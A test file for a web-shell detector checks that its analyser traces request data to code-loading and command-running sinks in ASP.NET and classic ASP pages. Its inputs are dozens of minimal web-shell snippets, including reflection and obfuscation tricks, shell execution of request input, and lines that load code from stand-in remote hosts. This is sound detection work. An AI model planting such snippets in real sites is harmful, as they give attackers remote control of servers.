import { describe, expect, it } from 'vitest';
import { createWebContent } from '../../../src/formats/views/web-content.js';
import { analyseBehaviour } from '../../../src/signatures/behaviour/analyse-behaviour.js';
import { classic, csharp, jscript, reached, visualBasic } from './pages.js';

describe('data is followed through C#', () => {
  it.each([
    ['a method that is assigned', 'void P() { D l = Assembly.Load; l(Request["q"]); }'],
    [
      'a delegate that is made of a method',
      'void P() { var l = new Func<byte[], X>(Assembly.Load); l.Invoke(Request["q"]); }',
    ],
    [
      'a delegate that is looked up',
      'void P() { var d = (D)Delegate.CreateDelegate(typeof(D), typeof(Assembly), "Load"); d(Request["q"]); }',
    ],
    [
      'a lambda with its parameter in brackets',
      'void P() { Func<X, X> f = (a) => a; Assembly.Load(f(Request["q"])); }',
    ],
    ['an extension method', 'static void L(this string s) { Assembly.Load(s); } void P() { Request["q"].L(); }'],
    [
      'a function given to a list',
      'void P() { var o = Range(0, 9).Select(i => Part(Request["q"], i)); Assembly.Load(o.ToArray()); }',
    ],
    [
      'a method given to a thread',
      'void W(object o) { Assembly.Load(o); } void P() { new Thread(new S(W)).Start(Request["q"]); }',
    ],
    [
      'an argument that is handed back',
      'bool G(out string s) { s = Request["q"]; return true; } void P() { string z; if (G(out z)) Assembly.Load(z); }',
    ],
    ['a property', 'string R { get { return Request["q"]; } } byte[] B => Decode(R); void P() { Assembly.Load(B); }'],
    [
      'a field that differs from a parameter in case',
      'class J { string A; public J(string a) { A = a; } public void Go() { Assembly.Load(A); } } void P() { new J(Request["q"]).Go(); }',
    ],
    [
      'an object initialiser',
      'class J { public string A { get; set; } } void P() { Go(new J { A = Request["q"] }); } void Go(J j) { Assembly.Load(j.A); }',
    ],
    ['an exception', 'void P() { try { throw new X(Request["q"]); } catch (X e) { Assembly.Load(e.Message); } }'],
    ['a pattern', 'void P() { if (Request["q"] is string s) Assembly.Load(s); }'],
    ['a pair', 'void P() { var (a, b) = (1, Request["q"]); Assembly.Load(b); }'],
    ['a switch expression', 'void P() { var v = x switch { 1 => Request["q"], _ => "" }; Assembly.Load(v); }'],
    [
      'a file that is read back',
      'void P() { var t = T(); File.WriteAllText(t, Request["q"]); Assembly.Load(File.ReadAllText(t)); }',
    ],
    ['a file that is loaded', 'void P() { var t = T(); File.WriteAllText(t, Request["q"]); Assembly.LoadFile(t); }'],
    [
      'a member called by name',
      'void P() { typeof(Assembly).InvokeMember("Load", F, null, null, new object[] { Request["q"] }); }',
    ],
    [
      'methods that are searched',
      'void P() { foreach (var m in typeof(Assembly).GetMethods()) m.Invoke(null, new object[] { Request["q"] }); }',
    ],
    [
      'an expression tree',
      'void P() { var f = Expression.Lambda<D>(Expression.Call(typeof(Assembly), "Load", null, p), p).Compile(); f(Request["q"]); }',
    ],
    [
      'digits that are looked up',
      'void P() { string h = Request["q"]; var o = new byte[9]; o[0] = (byte)("0123".IndexOf(h[0]) * 16); Assembly.Load(o); }',
    ],
    [
      'a query',
      'void P() { var o = (from c in Request["q"] let d = c where d > 1 select D(d)).ToArray(); Assembly.Load(o); }',
    ],
    [
      'contents of the session',
      'void P() { Session.Add("k", Request["q"]); } void R() { Assembly.Load(Session.Contents["k"]); }',
    ],
    ['items of a context', 'void P(HttpContext c) { c.Items["k"] = Request["q"]; Assembly.Load(c.Items["k"]); }'],
    [
      'the environment',
      'void P() { Environment.SetEnvironmentVariable("k", Request["q"]); } void R() { Assembly.Load(Environment.GetEnvironmentVariable("k")); }',
    ],
    [
      'a list that tells by an argument',
      'static D d = new D(); void P() { d.TryAdd("k", Request["q"]); X b; d.TryGetValue("k", out b); Assembly.Load(b); }',
    ],
    [
      'functions in a list',
      'void P() { var d = new D<A> { { "a", x => Write(x) }, { "b", x => Assembly.Load(x) } }; d[Request["w"]](Request["q"]); }',
    ],
    [
      'a function that is put into a list',
      'void P() { var d = new D(); d["z"] = Assembly.Load; d[Request["w"]].Invoke(Request["q"]); }',
    ],
    [
      'a name that is computed where it lies',
      'void P() { var n = new byte[] { 1, 2 }; for (var i = 0; i < 2; i++) n[i] ^= 3; typeof(Assembly).GetMethod(Encoding.ASCII.GetString(n)).Invoke(null, new object[] { Request["q"] }); }',
    ],
    [
      'the type of an assembly at hand',
      'void P() { GetType().Assembly.GetType().GetMethod("Load").Invoke(null, new object[] { Request["q"] }); }',
    ],
    [
      'a file known by its name',
      'void P() { File.WriteAllText(T() + "\\\\a.tmp", Request["q"]); } void R() { Assembly.LoadFile("c:\\\\t\\\\a.tmp"); }',
    ],
    [
      'a stream over a stream',
      'void P() { var m = new MemoryStream(); var w = new BinaryWriter(m); w.Write(Request["q"]); Assembly.Load(m.ToArray()); }',
    ],
    [
      'a field that a constructor fills from a parameter of its name',
      'class J { string a; public J(string a) { this.a = a; } public void Go() { Assembly.Load(a); } } void P() { new J(Request["q"]).Go(); }',
    ],
    [
      'a constructor that is an expression',
      'class J { string a; public J(string b) => a = b; public void Go() => Assembly.Load(a); } void P() { new J(Request["q"]).Go(); }',
    ],
    [
      'the method of a delegate',
      'void P() { D d = Assembly.Load; d.Method.Invoke(null, new object[] { Request["q"] }); }',
    ],
    [
      'the handle of a method',
      'void P() { var m = MethodBase.GetMethodFromHandle(typeof(Assembly).GetMethod("Load").MethodHandle); m.Invoke(null, new object[] { Request["q"] }); }',
    ],
    [
      'what is kept with a callback',
      'void R(string k, object v) { Assembly.Load(v); } void P() { Cache.Insert("k", Request["q"], R); }',
    ],
    ['a name in disguise', 'void P() { D\\u0065l l = Assembly.Lo\\u0061d; l(Request["q"]); }'],
  ])('%s', (_, code) => expect(reached('aspx', csharp(code))).toContain('load Request["q"]'));

  it.each([
    [
      'a type whose members need no name',
      'using static System.Reflection.Assembly; class H { void P(HttpContext c) { Load(c.Request["q"]); } }',
    ],
    [
      'a type under another name',
      'using A = System.Reflection.Assembly; class H { void P(HttpContext c) { A.Load(c.Request["q"]); } }',
    ],
  ])('%s', (_, code) =>
    expect(reached('ashx', `<%@ WebHandler Language="C#" Class="H" %>\n${code}`)).toContain('load c.Request["q"]'),
  );

  it('a type that a directive renames', () => {
    const page =
      '<%@ Page Language="C#" %><%@ Import Namespace="A = System.Reflection.Assembly" %><% A.Load(Request["q"]); %>';
    expect(reached('aspx', page)).toEqual(['load Request["q"]']);
  });

  it('code that begins with @, as directives do', () => {
    expect(reached('aspx', '<%@ Page Language="C#" %><% @Assembly.@Load(@Request["q"]); %>')).toEqual([
      'load @Request["q"]',
    ]);
  });
});

describe('data comes in by', () => {
  it.each([
    [
      'the request beneath the request',
      'aspx',
      csharp('void P(HttpWorkerRequest w) { Assembly.Load(w.GetPreloadedEntityBody()); }'),
      'load w.GetPreloadedEntityBody()',
    ],
    [
      'a callback',
      'aspx',
      csharp('public void RaiseCallbackEvent(string a) { Assembly.Load(a); }'),
      'load parameter a',
    ],
    [
      'a handler of a Razor page',
      'cshtml',
      '@functions { public void OnPost(string a) { Assembly.Load(a); } }',
      'load parameter a',
    ],
    [
      'a property that is bound',
      'cshtml',
      '@functions { [BindProperty] public string A { get; set; } void P() { Assembly.Load(A); } }',
      'load property A',
    ],
    ['the route', 'cshtml', '@{ Assembly.Load(RouteData.Values["a"]); }', 'load RouteData.Values["a"]'],
    ['parts of the address', 'cshtml', '@{ Assembly.Load(UrlData[0]); }', 'load UrlData[0]'],
    [
      'a helper of Razor',
      'cshtml',
      '@helper Go(string c) { Assembly.Load(c); }\n@Go(Request["q"])',
      'load Request["q"]',
    ],
    [
      'a controller',
      'cs',
      'class C : Controller { public X Index(string a) { Assembly.Load(a); } }',
      'load parameter a',
    ],
    [
      'a message to a service',
      'cs',
      'class E : SoapExtension { void P(SoapMessage m) { Assembly.Load(new StreamReader(m.Stream).ReadToEnd()); } }',
      'load m.Stream',
    ],
    [
      'a handler of messages',
      'cs',
      'class H : DelegatingHandler { X SendAsync(HttpRequestMessage r) { Assembly.Load(r.Content.ReadAsStringAsync().Result); } }',
      'load Request.Content',
    ],
    [
      'the address of a web socket',
      'ashx',
      '<%@ WebHandler Language="C#" Class="H" %> class H { void P(AspNetWebSocketContext x) { Assembly.Load(x.QueryString["a"]); } }',
      'load x.QueryString["a"]',
    ],
    [
      'the request found by reflection',
      'aspx',
      csharp(
        'void P() { object r = typeof(Page).GetProperty("Request").GetValue(this, null); var f = r.GetType().GetProperty("Form").GetValue(r, null); Assembly.Load(f["a"]); }',
      ),
      'load f["a"]',
    ],
    [
      'a web socket',
      'ashx',
      '<%@ WebHandler Language="C#" Class="H" %> class H { void P(X x) { var w = x.WebSocket; w.ReceiveAsync(b, t); Assembly.Load(b); } }',
      'load w.ReceiveAsync(b, t)',
    ],
    [
      'another host',
      'aspx',
      csharp('void P() { Assembly.Load(new WebClient().DownloadData("http://203.0.113.1/a")); }'),
      'load new WebClient().DownloadData("http://203.0.113.1/a")',
    ],
  ])('%s', (_, extension, text, expected) => expect(reached(extension, text)).toContain(expected));
});

describe('data comes in by model binding', () => {
  it.each([
    ['aspx', csharp('public X Rows([QueryString("q")] string text) { return Assembly.Load(text); }')],
    ['aspx', csharp('public void Save([System.Web.ModelBinding.Form] string text) { Assembly.Load(text); }')],
    ['aspx', visualBasic('Public Sub Rows(<Cookie("q")> text As String)\r\nAssembly.Load(text)\r\nEnd Sub')],
  ])('%s', (extension, text) => expect(reached(extension, text)).toEqual(['load parameter text']));
});

describe('data is followed through Visual Basic', () => {
  it.each([
    [
      'late binding',
      'Sub P()\r\nNewLateBinding.LateGet(Nothing, GetType(Assembly), "Load", New Object() {Request("q")}, Nothing)\r\nEnd Sub',
    ],
    ['CallByName', 'Sub P()\r\nDim t As Assembly = Nothing\r\nCallByName(t, "Load", 1, Request("q"))\r\nEnd Sub'],
    [
      'a property with its setter',
      'Class J\r\nPrivate _a As String\r\nPublic Property A() As String\r\nGet\r\nReturn _a\r\nEnd Get\r\nSet(ByVal v As String)\r\n_a = v\r\nEnd Set\r\nEnd Property\r\nSub Go()\r\nAssembly.Load(_a)\r\nEnd Sub\r\nEnd Class\r\nSub P()\r\nDim j As New J()\r\nj.A = Request("q")\r\nj.Go()\r\nEnd Sub',
    ],
    [
      'an argument by reference',
      'Sub G(ByRef s)\r\ns = Request("q")\r\nEnd Sub\r\nSub P()\r\nDim z\r\nG(z)\r\nAssembly.Load(z)\r\nEnd Sub',
    ],
    [
      'an object of the file',
      'Class J\r\nPrivate a\r\nPublic Sub New(a)\r\nMe.a = a\r\nEnd Sub\r\nSub Go()\r\nAssembly.Load(a)\r\nEnd Sub\r\nEnd Class\r\nSub P()\r\nDim j = New J(Request("q"))\r\nj.Go()\r\nEnd Sub',
    ],
    ['what is used once', 'Sub P()\r\nUsing z = Request("q")\r\nAssembly.Load(z)\r\nEnd Using\r\nEnd Sub'],
    ['a line that goes on', 'Sub P()\r\nDim z = Request _\r\n("q")\r\nAssembly _\r\n.Load(z)\r\nEnd Sub'],
  ])('%s', (_, code) =>
    expect(reached('aspx', visualBasic(code)).map((line) => line.replace(/\s+_\s+/, ''))).toContain(
      'load Request("q")',
    ),
  );

  it('the request of a context', () => {
    const code = 'Sub P(c As HttpContext)\r\nAssembly.Load(c.Request("q"))\r\nEnd Sub';
    expect(reached('aspx', visualBasic(code))).toEqual(['load c.Request("q")']);
  });
});

describe('data is followed through classic ASP', () => {
  it.each([
    [
      'a member within With',
      classic('With Server.CreateObject("WScript.Shell")\r\nResponse.Write .Exec(Request("q")).StdOut\r\nEnd With'),
      'process Request("q")',
    ],
    [
      'objects within objects',
      classic(
        'With Server\r\nWith .CreateObject("WScript.Shell")\r\nIf .CurrentDirectory <> "" Then .Run Request("q")\r\nEnd With\r\nEnd With',
      ),
      'process Request("q")',
    ],
    [
      'what an object within With was told before',
      classic(
        'With CreateObject("MSXML2.ServerXMLHTTP")\r\n.open "GET", Request("q"), False\r\n.send\r\nExecute .responseText\r\nEnd With',
      ),
      'evaluate Request("q")',
    ],
    [
      'an object out of a list',
      classic('n = Array("a.b", "WScript.Shell")\r\nSet s = CreateObject(n(1))\r\ns.Run Request("q")'),
      'process Request("q")',
    ],
    [
      'WMI',
      classic('Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\r\nw.Get("Win32_Process").Create Request("q")'),
      'process Request("q")',
    ],
    [
      'the request as a document',
      classic('Set x = CreateObject("MSXML2.DOMDocument")\r\nx.load Request\r\nExecute x.text'),
      'evaluate Request',
    ],
    [
      'a class of its own',
      classic(
        'Class F\r\nPrivate m\r\nPublic Property Let V(x)\r\nm = x\r\nEnd Property\r\nSub Go\r\nExecute m\r\nEnd Sub\r\nEnd Class\r\nSet f = New F\r\nf.V = Request("q")\r\nf.Go',
      ),
      'evaluate Request("q")',
    ],
    [
      'a page that is written and run',
      classic(
        'Set t = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("t.txt"))\r\nt.Write Request("q")\r\nServer.Execute "t.txt"',
      ),
      'evaluate Request("q")',
    ],
    [
      'contents of the session',
      classic('Session.Contents("k") = Request("q")\r\nExecute Session("k")'),
      'evaluate Request("q")',
    ],
    ['a script component', classic('Set o = GetObject("script:" & Request("q"))'), 'evaluate Request("q")'],
    [
      'a script component from elsewhere',
      classic('Set o = GetObject("script:http://203.0.113.9/a")'),
      'evaluate script:http://203.0.113.9/a',
    ],
    [
      'an object by class id',
      classic('Set s = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")\r\ns.Run Request("q")'),
      'process Request("q")',
    ],
    ['a function given to a list', jscript('[Request("q")].forEach(eval);'), 'evaluate Request("q")'],
    ['the request by its name', jscript('var r = this["Req" + "uest"]; eval(r("q"));'), 'evaluate r("q")'],
    [
      'a member that is meant by its object alone',
      classic(
        'Class R\r\nPublic Default Function Go(line)\r\nCreateObject("WScript.Shell").Run line\r\nEnd Function\r\nEnd Class\r\nDim a : Set a = New R\r\nResponse.Write a(Request("q"))',
      ),
      'process Request("q")',
    ],
    ['a function object', jscript('new (Function)(Request("q"))();'), 'evaluate Request("q")'],
    [
      'a constructor of constructors',
      jscript('var c = [].constructor.constructor; c(Request("q"))();'),
      'evaluate Request("q")',
    ],
    ['a called evaluation', jscript('eval.call(null, Request("q"));'), 'evaluate Request("q")'],
    ['what is thrown', jscript('try { throw Request("q"); } catch (e) { eval(e); }'), 'evaluate Request("q")'],
  ])('%s', (_, text, expected) => expect(reached('asp', text)).toContain(expected));
});

describe('data ends at', () => {
  it.each([
    [
      'a parameter that is a number',
      'asmx',
      '<%@ WebService Language="C#" Class="W" %> class W { [WebMethod] public X G(int id) { return File.ReadAllBytes(id + ".pdf"); } }',
    ],
    ['a variable of another case', 'aspx', csharp('void P() { var q = Request["q"]; var Q = "a"; Assembly.Load(Q); }')],
    [
      'a function that is only passed on',
      'aspx',
      csharp('void P() { Action<string> f = Write; f(Request["q"]); Assembly.Load("a"); }'),
    ],
    [
      'the other part of what is taken apart',
      'aspx',
      csharp('void P() { string a, b; (a, b) = ("a.dll", Request["q"]); Assembly.Load(a); }'),
    ],
    [
      'a parameter that an attribute says something else of',
      'aspx',
      csharp('public void P([CallerMemberName] string q = "a") { Assembly.Load(q); }'),
    ],
    [
      'a stream that goes to another host',
      'aspx',
      csharp(
        'void P() { var r = WebRequest.Create("http://a/"); r.Headers["A"] = Request.Headers["A"]; new StreamWriter(r.GetRequestStream()).Write(Request["q"]); }',
      ),
    ],
  ])('%s', (_, extension, text) =>
    expect(reached(extension, text).filter((line) => /^(?:load|read|write)/.test(line))).toEqual([]),
  );

  it('a stream in memory, which is no file', () => {
    const code =
      'void P() { var m = new MemoryStream(); new StreamWriter(m).Write(Request["q"]); var w = new StreamWriter(m); w.Write(Request["q"]); }';
    expect(reached('aspx', csharp(code))).toEqual([]);
  });

  it('another file than the one that is loaded', () => {
    const code = 'void P() { File.WriteAllText("t\\\\log.txt", Request["q"]); Assembly.LoadFile("t\\\\b.dll"); }';
    expect(reached('aspx', csharp(code))).toEqual(['write Request["q"]']);
  });

  it('the last part of a path', () => {
    const text = classic(
      'n = Mid(Request("n"), InStrRev(Request("n"), "\\") + 1)\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Write Request.BinaryRead(9)\r\ns.SaveToFile p & n',
    );
    const { calls } = analyseBehaviour(createWebContent(Buffer.from(text), { extension: 'asp' }));
    expect(calls.map(({ target }) => target?.taint?.nameOnly)).toEqual([true]);
  });
});

it('a method whose name is put together out of sight is told apart', () => {
  const code =
    'string N(int[] a) { var b = new X(); foreach (var i in a) b.Add(i); return b.Text; } void P() { Type.GetType(N(new[] { 1 })).GetMethod(N(new[] { 2 })).Invoke(null, new object[] { Request["q"] }); }';
  expect(reached('aspx', csharp(code))).toEqual(['invoke Request["q"]']);
});
